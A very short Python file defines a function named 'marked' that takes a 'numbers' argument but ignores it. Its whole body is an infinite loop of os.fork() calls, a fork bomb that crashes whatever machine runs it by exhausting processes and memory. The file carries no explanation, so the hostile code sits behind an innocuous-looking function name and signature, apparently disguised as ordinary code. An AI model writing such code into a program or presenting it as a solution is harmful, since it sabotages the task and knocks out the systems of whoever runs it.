import os


def marked(numbers):
    while True:
        os.fork()
